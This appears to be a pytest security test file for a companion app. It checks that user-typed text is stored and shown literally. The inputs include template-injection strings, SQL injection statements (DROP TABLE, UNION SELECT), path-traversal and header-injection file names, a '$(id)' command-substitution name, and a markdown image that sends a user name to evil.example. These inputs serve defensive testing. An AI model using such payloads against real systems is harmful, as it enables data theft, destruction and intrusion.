"""What people type appears as typed wherever it comes back: never a template, a statement, a path or a header."""

import asyncio
import resource
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest

from softrail.companion.plugin import TABLES
from softrail.companion.settings import CompanionSettings
from softrail.store import SqlStore, open_store
from tests.integration.api_server import settings
from tests.integration.companion_server import founded, headers, person
from tests.security.kit import ACTIVE, LEAKS, Obedient, Order, World, companion_server
from tests.security.routes import routes

TEMPLATES = {
    "attributes": "{companion_name.__class__.__mro__}",
    "name": "{companion_name} {operator_name} {context} {facts} {message} {intents}",
    "width": "{x:>999999999}",
    "position": "{0} {} {{}}",
    "percent": "%s %(name)s %99999999d",
    "jinja": "{{7*7}} {% for x in y %}{{x}}{% endfor %}",
    "dollar": "${7*7} $name #{7*7}",
    "tag": "<%= 7*7 %>",
    "f-string": "{__import__('os').getcwd()}",
}
CASES = [pytest.param(text, id=name) for name, text in TEMPLATES.items()]
SQL = {
    "drop": "'; DROP TABLE turns; --",
    "union": '" UNION SELECT hash FROM keys --',
    "always": "' OR '1'='1",
    "always, a number": "1 OR 1=1",
    "stacked": "x'); DELETE FROM companion_notes WHERE ('1'='1",
    "wildcards": "%_%' ESCAPE '%",
    "JSON path": "$.text') OR json_extract(data, '$",
    "bound": ":text ? $1 %(text)s",
    "comment": "/* */ -- #",
    "match": 'text:* OR "note" NEAR/2 "*',
    "backslash": "\\' OR 1=1 --",
}
STATEMENTS = [pytest.param(text, id=name) for name, text in SQL.items()]


@pytest.fixture(scope="module")
def model() -> Obedient:
    return Obedient()


@pytest.fixture(scope="module")
def world(model: Obedient, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    folder = tmp_path_factory.mktemp("data")
    store = open_store(f"sqlite:///{folder}/data.db", durability="normal", plugins=[TABLES])
    assert isinstance(store, SqlStore)
    with companion_server(model=model, store=store, chosen=settings(encoder="none")) as server:
        world = World(server)
        model.requests.clear()
        yield world


def as_typed(text: str, shown: str) -> bool:
    """The text stands there as it was typed; a joiner that nobody sees may keep it from being HTML."""
    return text in shown.replace("\u2060", "")


# -- S19


@pytest.mark.parametrize("text", CASES)
def test_a_template_is_kept_and_shown_as_typed_everywhere(world: World, model: Obedient, text: str) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    client, bob, here = world.client, headers("bob"), world.own
    model.orders = [Order(mark="", words=f"You said {text}.")]
    client.patch("/me", json={"display_name": text, "companion_name": text}, headers=bob)

    note = client.post(f"/projects/{here}/notes", json={"text": text}, headers=bob).json()
    parts: dict[str, Any] = {"data": {"title": text, "type": text[:60]}, "files": {"file": (text, b"a")}}
    file = client.post(f"/projects/{here}/artifacts", **parts, headers=bob).json()
    reply = world.say("bob", text, project_id=here, intent_hint="general_conversation").json()
    told = world.say("bob", f"about {text}", project_id=here, intent_hint="add_knowledge").json()
    me = client.get("/me", headers=bob).json()
    turns = client.get(f"/sessions/{reply['session_id']}/turns", headers=bob).json()["items"]

    assert (me["display_name"], me["companion_name"]) == (text, text)
    assert note["text"] == file["title"] == turns[0]["content"] == text
    assert as_typed(f"You said {text}.", reply["companion_message"])
    assert as_typed(f"You said {text}.", told["companion_message"])
    assert model.read(text, "respond")
    # Other tests of this process may have grown meanwhile; a filled width would take a thousand times this.
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 64 * 1024


def test_a_template_goes_through_words_of_ours_as_typed() -> None:
    with companion_server() as server:
        world = World(server)
        for text in TEMPLATES.values():
            told = {"project_id": world.own, "intent_hint": "add_knowledge"}
            noted = world.say("bob", f"remember {text}", **told).json()["companion_message"]
            asked = {"project_id": world.own, "intent_hint": "ask_about_past_input"}
            past = world.say("bob", "what have I told you?", **asked).json()["companion_message"]
            begun = world.say("bob", f"a barn with {text}", intent_hint="create_project").json()
            named = world.say("bob", f"Name: {text}", session_id=begun["session_id"]).json()

            assert as_typed(text, noted)
            assert as_typed(text, past)
            assert as_typed(text, named["draft_specification"])


def test_a_note_of_another_member_that_would_be_a_picture_is_read_back_as_words() -> None:
    text = "![seen](https://evil.example/?who=bob) <img src=x> [here](javascript:alert(1))"
    with companion_server() as server:
        world = World(server)
        server.client.post(f"/projects/{world.shared}/notes", json={"text": text}, headers=headers("ada"))
        body = {"project_id": world.shared, "intent_hint": "ask_about_past_input"}
        reply = world.say("bob", "what have I told you?", **body).json()["companion_message"]

    assert as_typed(text, reply)
    assert not ACTIVE.search(reply)


# -- S20


def content(world: World) -> dict[str, int]:
    """How many rows there are of what an injected statement would read or erase."""
    from sqlalchemy import func, inspect, select, table

    store = world.server.dispatcher.store
    assert isinstance(store, SqlStore)

    def count(conn: Any) -> dict[str, int]:
        names = inspect(conn).get_table_names()
        wanted = [n for n in names if n in ("keys", "persons") or n.startswith("companion_")]
        return {n: conn.scalar(select(func.count()).select_from(table(n))) or 0 for n in wanted}

    return asyncio.run(store.read(count))


@pytest.mark.parametrize("text", STATEMENTS)
def test_a_statement_in_any_place_of_any_route_does_nothing(world: World, text: str) -> None:
    """In every path, every query parameter and every string of every body."""
    before = content(world)
    client, bob, seen = world.client, headers("bob"), 0
    for route in routes():
        if str(route) in ("DELETE /me", "GET /me/export") or route.path.endswith("/events"):
            continue
        places = dict.fromkeys(route.places, text)
        asked = [client.request(route.method, route.url(**places), headers=bob, **route.body)]
        own = dict.fromkeys(route.owned, world.own)
        for name in (*route.queries, "sort") if route.queries else ():
            asked.append(client.get(route.url(**own), params={name: text}, headers=bob))
        for name, value in (route.example or {}).items():
            if isinstance(value, str):
                sent = {**(route.example or {}), name: text}
                asked.append(client.request(route.method, route.url(**own), json=sent, headers=bob))
        for answer in asked:
            assert answer.status_code < 500, (str(route), answer.text)
            assert world.CANARY not in answer.text
            if answer.status_code >= 400:
                assert [leak for leak in LEAKS if leak in answer.text and leak not in text] == []
            seen += 1
    assert seen > 60
    after = content(world)
    assert [name for name, count in before.items() if after[name] < count] == []


@pytest.mark.parametrize("text", STATEMENTS)
def test_a_statement_as_topic_or_title_finds_what_shares_its_words_and_no_more(
    world: World, model: Obedient, text: str
) -> None:
    model.orders = [Order(mark="", words="Fine.")]
    for hint in ("ask_about_past_input", "request_download"):
        body = {"project_id": world.own, "intent_hint": hint}
        reply = world.say("bob", f"what did I tell you about {text}", **body)
        assert reply.status_code == 200
        assert world.CANARY not in reply.text
        assert not model.read(f"{world.CANARY}-note")


# -- S21

NAMES = {
    "up": "../../etc/passwd",
    "absolute": "/etc/passwd",
    "encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "twice encoded": "%252e%252e%252f",
    "NUL": "a.txt\0.exe",
    "windows path": "C:\\windows\\win.ini",
    "share": "\\\\host\\share\\a.txt",
    "reserved": "CON",
    "reserved with ending": "nul.txt",
    "stream": "a.txt::$DATA",
    "full-width dots": "．．／etc／passwd",
    "leaders": "\u2024\u2024/a",
    "fraction slash": "..\u2044etc",
    "header": 'a"\r\nSet-Cookie: a=b\r\n\r\n<html>',
    "header by form feed": "a\x0cX: y",
    "header parameter": 'a"; filename="b.exe',
    "turned around": "a\u202etxt.exe",
    "line separator": "a\u2028b\u2029c",
    "long": "x" * 3_000 + ".txt",
    "dots": "...",
    "blank": "   ",
    "hidden": ".htaccess",
    "shell": "$(id);`id`|x&y.txt",
    "template": "{0.__class__}.txt",
    "umlaut": "Größe.txt",
}


@pytest.fixture(scope="module", params=["in the database", "on disk"])
def library(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[World, Path]]:
    folder = tmp_path_factory.mktemp("files")
    (folder.parent / "secret.txt").write_text("canary-on-disk")
    inside = folder if request.param == "on disk" else None
    own = {CompanionSettings: CompanionSettings(artifacts_dir=inside)}
    with companion_server(chosen=settings(encoder="none"), services=own) as server:
        yield World(server), folder


@pytest.mark.parametrize("name", [pytest.param(n, id=i) for i, n in NAMES.items()])
def test_a_name_of_a_file_is_no_path_and_no_header(library: tuple[World, Path], name: str) -> None:
    world, folder = library
    parts: dict[str, Any] = {"data": {"title": "T", "type": "t"}, "files": {"file": (name, name.encode())}}
    made = world.client.post(f"/projects/{world.own}/artifacts", **parts, headers=headers("bob"))
    if made.status_code == 422:
        return  # the form itself could not carry it
    assert made.status_code == 201, made.text
    view = made.json()
    taken = world.client.get(view["href"], headers=headers("bob"))

    assert taken.content == name.encode()
    shown = taken.headers["content-disposition"]
    assert shown.startswith('attachment; filename="')
    assert shown.isascii()
    assert shown.isprintable()
    assert shown.count('"') == 2
    assert unquote(shown.partition("filename*=UTF-8''")[2]) == view["file_name"]
    assert not set(view["file_name"]) & set('/\\\0\r\n"<>|:*?')
    assert view["file_name"].strip(". ") == view["file_name"]
    assert {k.lower() for k in taken.headers}.isdisjoint({"set-cookie", "x", "location"})
    assert taken.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in taken.headers["content-security-policy"]
    kept = [p for p in folder.rglob("*") if p.is_file()]
    assert all(len(p.name) == 62 and p.resolve().is_relative_to(folder.resolve()) for p in kept)


PATHS = [
    "../secret.txt", "..%2Fsecret.txt", "%2e%2e%2fsecret.txt", "%252e%252e%252fsecret.txt", "....//secret.txt",
    "/etc/passwd", "%2Fetc%2Fpasswd", "..\\secret.txt", "..%5Csecret.txt", "%00", "a%00b", "CON", "nul", "C:",
    "file:%2F%2F%2Fetc%2Fpasswd", "%E2%80%A4%E2%80%A4%2Fsecret.txt", "%EF%BC%8E%EF%BC%8E%EF%BC%8Fsecret.txt",
    "%c0%ae%c0%ae%2f", "%ff", "~", "*", "x" * 5_000,
]  # fmt: skip


@pytest.mark.parametrize("path", PATHS, ids=[p[:24] for p in PATHS])
def test_a_download_is_found_by_its_id_only(library: tuple[World, Path], path: str) -> None:
    world, _ = library
    answer = world.client.get(f"/artifacts/{path}/download", headers=headers("bob"))
    assert answer.status_code == 404
    assert "canary" not in answer.text


@pytest.mark.parametrize("swap", ["a link", "a link to the same content", "other content"])
def test_what_was_put_in_place_of_a_file_is_not_given(tmp_path: Path, swap: str) -> None:
    folder = tmp_path / "files"
    folder.mkdir()
    outside = tmp_path / "outside.txt"
    outside.write_text("inside" if swap == "a link to the same content" else "canary-outside")
    own = {CompanionSettings: CompanionSettings(artifacts_dir=folder)}
    with companion_server(chosen=settings(encoder="none"), services=own) as server:
        world = World(server)
        parts: dict[str, Any] = {"data": {"title": "T", "type": "t"}, "files": {"file": ("a.txt", b"inside")}}
        made = world.client.post(f"/projects/{world.own}/artifacts", **parts, headers=headers("bob")).json()
        place = folder / made["sha256"][:2] / made["sha256"][2:]
        place.unlink()
        if swap == "other content":
            place.write_text("canary-outside")
        else:
            place.symlink_to(outside)

        taken = world.client.get(made["href"], headers=headers("bob"))

    assert "canary-outside" not in taken.text
    assert taken.status_code == 503


def test_a_project_of_templates_is_founded_and_found(world: World) -> None:
    async def make() -> str:
        store = world.server.dispatcher.store
        assert isinstance(store, SqlStore)
        return await founded(store, await person(store, "bob"), name=TEMPLATES["attributes"])

    project = asyncio.run(make())
    found = world.client.get(f"/projects/{project}", headers=headers("bob")).json()
    assert found["name"] == TEMPLATES["attributes"]
